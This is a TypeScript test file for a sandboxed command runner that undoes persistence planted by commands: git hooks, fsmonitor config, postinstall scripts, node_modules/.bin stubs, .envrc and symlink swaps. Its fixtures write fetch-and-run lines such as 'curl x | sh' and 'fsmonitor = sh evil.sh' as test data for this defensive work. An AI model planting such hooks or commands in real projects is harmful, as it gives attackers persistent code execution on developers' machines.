// What a command plants where something runs it later (a git hook, `.envrc`, a `postinstall`, `node_modules/.bin`) is
// undone after it, unless the gate judged that write; ordinary files it writes are untouched.
import { after, before, describe, it } from "node:test";
import assert from "node:assert/strict";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { createShellAnalyzer, type ShellAnalyzer } from "../exec/index.ts";
import { createSandboxRunner, DEFAULT_PATH, detectSandbox, type SandboxAvailability } from "../sandbox/index.ts";
import { issuePermit } from "../gate/permit.ts";
import { createExecTool } from "./exec.ts";
import { judgedWrites, runsLaterPath, snapshotRunLater, undoRunLater, type UndoneFile } from "./exec-run-later.ts";

const write = (ws: string, rel: string, text: string, mode = 0o644) => {
  fs.mkdirSync(path.dirname(path.join(ws, rel)), { recursive: true });
  fs.writeFileSync(path.join(ws, rel), text, { mode });
};
const read = (ws: string, rel: string) => fs.readFileSync(path.join(ws, rel), "utf8");

let analyzer: ShellAnalyzer;
const parse = (command: string) => analyzer.analyze(command);

void describe("exec run-later undo (real files)", () => {
  let root = "";
  let ws = "";
  let aside = "";
  before(async () => {
    analyzer = await createShellAnalyzer();
    root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "warden-runlater-")));
  });
  after(() => fs.rmSync(root, { recursive: true, force: true }));
  const fresh = () => {
    ws = fs.mkdtempSync(path.join(root, "ws-"));
    aside = path.join(root, `aside-${path.basename(ws)}`);
    write(ws, "package.json", '{"name":"shop","scripts":{"test":"sh test/run.sh"}}\n');
    write(ws, "test/run.sh", "echo ok\n");
    write(ws, ".git/config", "[core]\n\tbare = false\n");
    write(ws, ".git/HEAD", "ref: refs/heads/main\n");
    write(ws, ".git/hooks/pre-push.sample", "#!/bin/sh\n", 0o755);
    write(ws, "src/app.js", "module.exports = 1;\n");
    return ws;
  };
  const undo = (command: string, change: () => void, limits?: Parameters<typeof snapshotRunLater>[1]): UndoneFile[] => {
    const snap = snapshotRunLater(ws, limits);
    change();
    return undoRunLater(snap, judgedWrites(snap.root, snap.root, parse(command)), aside, limits);
  };

  void it("removes planted hooks, configs and stubs, and restores changed ones (content, mode, link target)", () => {
    fresh();
    fs.symlinkSync("../src/app.js", path.join(ws, ".git/hooks/post-merge"));
    const undone = undo("sh test/run.sh", () => {
      write(ws, ".git/hooks/pre-commit", "#!/bin/sh\ncurl x | sh\n", 0o755);
      write(ws, "node_modules/.bin/eslint", "#!/bin/sh\ncurl x | sh\n", 0o755);
      write(ws, ".github/workflows/ci.yml", "on: push\n");
      write(ws, ".git/config", "[core]\n\tfsmonitor = sh evil.sh\n");
      write(ws, "package.json", '{"name":"shop","scripts":{"postinstall":"curl x | sh"}}\n');
      fs.chmodSync(path.join(ws, ".git/hooks/pre-push.sample"), 0o644);
      fs.unlinkSync(path.join(ws, ".git/hooks/post-merge"));
      fs.symlinkSync("../evil.sh", path.join(ws, ".git/hooks/post-merge"));
      write(ws, "dist/out.js", "built\n");
      write(ws, "src/app.js", "module.exports = 2;\n");
    });
    const by = new Map(undone.map((u) => [u.path, u.action]));
    assert.equal(by.get(".git/hooks/pre-commit"), "removed");
    assert.equal(by.get("node_modules/.bin/eslint"), "removed");
    assert.equal(by.get(".github/workflows/ci.yml"), "removed");
    assert.equal(by.get(".git/config"), "restored");
    assert.equal(by.get("package.json"), "restored");
    assert.equal(by.get(".git/hooks/pre-push.sample"), "restored");
    assert.equal(by.get(".git/hooks/post-merge"), "restored");
    assert.equal(fs.existsSync(path.join(ws, ".git/hooks/pre-commit")), false);
    assert.equal(read(ws, ".git/config"), "[core]\n\tbare = false\n");
    assert.match(read(ws, "package.json"), /"test":"sh test\/run.sh"/);
    assert.equal(fs.statSync(path.join(ws, ".git/hooks/pre-push.sample")).mode & 0o777, 0o755);
    assert.equal(fs.readlinkSync(path.join(ws, ".git/hooks/post-merge")), "../src/app.js");
    // Ordinary files are the command's to write.
    assert.equal(read(ws, "dist/out.js"), "built\n");
    assert.equal(read(ws, "src/app.js"), "module.exports = 2;\n");
    assert.equal(by.has("dist/out.js") || by.has("src/app.js"), false);
    for (const u of undone) assert.ok(u.why.length > 10, u.why);
  });

  void it("git's own data is not code: a commit's objects, refs, index and logs stay", () => {
    fresh();
    const undone = undo("sh test/run.sh", () => {
      write(ws, ".git/objects/ab/cdef", "blob");
      write(ws, ".git/refs/heads/main", "abc\n");
      write(ws, ".git/index", "DIRC");
      write(ws, ".git/logs/HEAD", "x\n");
      write(ws, ".git/COMMIT_EDITMSG", "msg\n");
    });
    assert.deepEqual(undone, []);
    assert.equal(runsLaterPath(".git/info/attributes") !== undefined, true);
    assert.equal(runsLaterPath(".git/modules/sub/hooks/pre-commit") !== undefined, true);
    assert.equal(runsLaterPath(".git/modules/sub/objects/ab/cd"), undefined);
  });

  void it("keeps what the gate judged: a named path, an installer's tree, git's own writes", () => {
    fresh();
    assert.deepEqual(undo("echo 'use nix' >> .envrc", () => write(ws, ".envrc", "use nix\n")), []);
    assert.deepEqual(undo("sed -i s/shop/store/ package.json", () => write(ws, "package.json", '{"name":"store"}\n')), []);
    assert.deepEqual(undo("npm install left-pad", () => {
      write(ws, "node_modules/.bin/left-pad", "#!/usr/bin/env node\n", 0o755);
      write(ws, "package.json", '{"name":"store","dependencies":{"left-pad":"1"}}\n');
    }), []);
    assert.deepEqual(undo("python3 -m pip install -r reqs.lock", () => write(ws, ".venv/bin/flask", "#!/x\n", 0o755)), []);
    assert.deepEqual(undo("git config core.hooksPath .githooks", () => write(ws, ".git/config", "[core]\n\thooksPath = .githooks\n")), []);
    assert.deepEqual(undo("npx husky install", () => write(ws, ".husky/_/husky.sh", "#!/bin/sh\n")), []);
    // An installer's tree is not everything: its lifecycle scripts planting a hook are undone.
    const planted = undo("npm install", () => write(ws, ".git/hooks/pre-commit", "#!/bin/sh\n", 0o755));
    assert.deepEqual(planted.map((u) => [u.path, u.action]), [[".git/hooks/pre-commit", "removed"]]);
    // A test run is not an installer.
    const test = undo("npm test", () => write(ws, "node_modules/.bin/jest", "#!/bin/sh\n", 0o755));
    assert.deepEqual(test.map((u) => u.action), ["removed"]);
  });

  void it("fails closed past its bounds: content past the byte budget, and files the walk could not see, are moved aside", () => {
    fresh();
    write(ws, "Makefile", "all:\n\techo hi\n");
    const undone = undo("make", () => write(ws, "Makefile", "all:\n\tcurl x | sh\n"), { maxEntries: 50_000, maxFileBytes: 4, maxTotalBytes: 4, maxConfigLooks: 64, clockSlackMs: 1000 });
    assert.deepEqual(undone.map((u) => u.action), ["moved-aside"]);
    assert.equal(fs.existsSync(path.join(ws, "Makefile")), false);
    assert.equal(fs.readFileSync(undone[0]?.movedTo as string, "utf8"), "all:\n\tcurl x | sh\n");
    fresh();
    const small = undo("make", () => write(ws, ".envrc", "curl x | sh\n"), { maxEntries: 3, maxFileBytes: 1 << 20, maxTotalBytes: 1 << 20, maxConfigLooks: 64, clockSlackMs: 1000 });
    assert.deepEqual(small.map((u) => u.action), ["moved-aside"]);
  });

  void it("a file a configuration names, newly created, is removed (core.hooksPath)", () => {
    fresh();
    write(ws, ".git/config", "[core]\n\thooksPath = tools/hooks\n");
    const undone = undo("sh test/run.sh", () => write(ws, "tools/hooks/pre-commit", "#!/bin/sh\n", 0o755));
    assert.deepEqual(undone.map((u) => [u.path, u.action]), [["tools/hooks/pre-commit", "removed"]]);
  });

  void it("never writes through a link the command left in the path", () => {
    fresh();
    const outside = fs.mkdtempSync(path.join(root, "outside-"));
    const undone = undo("sh test/run.sh", () => {
      fs.renameSync(path.join(ws, ".git"), path.join(ws, "git-old"));
      fs.symlinkSync(outside, path.join(ws, ".git"));
      write(outside, "config", "evil\n");
    });
    assert.equal(fs.existsSync(path.join(outside, "config")) ? read(outside, "config") : "", "evil\n");
    assert.ok(undone.some((u) => u.path === ".git" && u.action === "removed"), JSON.stringify(undone));
  });
});

// INVARIANT: no top-level await before the tests are declared: the runner may import this file beside others in one
// process, and tests declared after the root test began finishing are cancelled. The sandbox is detected inside.
const backendOf = async (name: "bubblewrap" | "host fallback"): Promise<SandboxAvailability | undefined> => {
  const detected = await detectSandbox();
  if (name === "host fallback") return { kind: "none", why: "test", shell: detected.shell };
  return detected.kind === "bubblewrap" ? detected : undefined;
};

for (const name of ["bubblewrap", "host fallback"] as const) {
  void describe(`exec tool (${name}): an approved test run cannot leave code that runs later`, () => {
    let root = "";
    after(() => fs.rmSync(root, { recursive: true, force: true }));
    void it("removes the hook the script planted, says so, and tells the activity log; other writes stay", async (t) => {
      const availability = await backendOf(name);
      if (availability === undefined) return t.skip("bubblewrap is not available here");
      const backend = { name, availability };
      root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "warden-runlater-exec-")));
      const ws = path.join(root, "ws");
      write(ws, ".git/HEAD", "ref: refs/heads/main\n");
      write(ws, ".git/config", "[core]\n\tbare = false\n");
      write(ws, "test/run.sh", "mkdir -p .git/hooks dist\nprintf '#!/bin/sh\\ncurl x | sh\\n' > .git/hooks/pre-commit\necho ok > dist/report.txt\necho '42 passed'\n");
      const events: UndoneFile[][] = [];
      const tool = createExecTool({
        analyzer: await createShellAnalyzer(), runner: createSandboxRunner({ availability: backend.availability }),
        policy: () => ({ security: "allowlist", ask: "on-miss" }), workspace: ws, homeDir: path.join(root, "home"), stateDir: path.join(root, "state"),
        pathEnv: DEFAULT_PATH, hiddenPaths: [path.join(root, "state")], network: false, timeoutMs: 20_000, maxOutputBytes: 1 << 20,
        onRunLaterUndone: (e) => events.push(e.undone),
      });
      const args = { command: "sh test/run.sh" };
      const context = { sessionKey: "t", principal: { kind: "owner", id: "webchat:owner", channel: "webchat" } as const, signal: new AbortController().signal };
      const out = await tool.run(args, context, issuePermit("exec", args));
      assert.match(out.content, /42 passed/);
      assert.match(out.content, /exec\.run_later_undone/);
      assert.match(out.content, /\.git\/hooks\/pre-commit/);
      assert.equal(fs.existsSync(path.join(ws, ".git/hooks/pre-commit")), false);
      assert.equal(read(ws, "dist/report.txt"), "ok\n");
      assert.deepEqual(events.map((e) => e.map((u) => u.path)), [[".git/hooks/pre-commit"]]);
    });
  });
}

void describe("what a test run writes as data", () => {
  void it("test, lint and coverage caches are not code that runs later; a bundler's cache and tox's virtualenvs are", () => {
    for (const p of [".pytest_cache/v/cache/lastfailed", ".mypy_cache/3.12/app.data.json", ".coverage", ".coverage.host.123", ".eslintcache", ".nyc_output/x.json", "pkg/.ruff_cache/0.1/a"]) assert.equal(runsLaterPath(p), undefined, p);
    for (const p of [".cache/babel-loader/x.json", ".tox/py312/bin/python", ".next/server/app.js", "tsconfig.json", "tsconfig.build.json"]) assert.notEqual(runsLaterPath(p), undefined, p);
  });
});
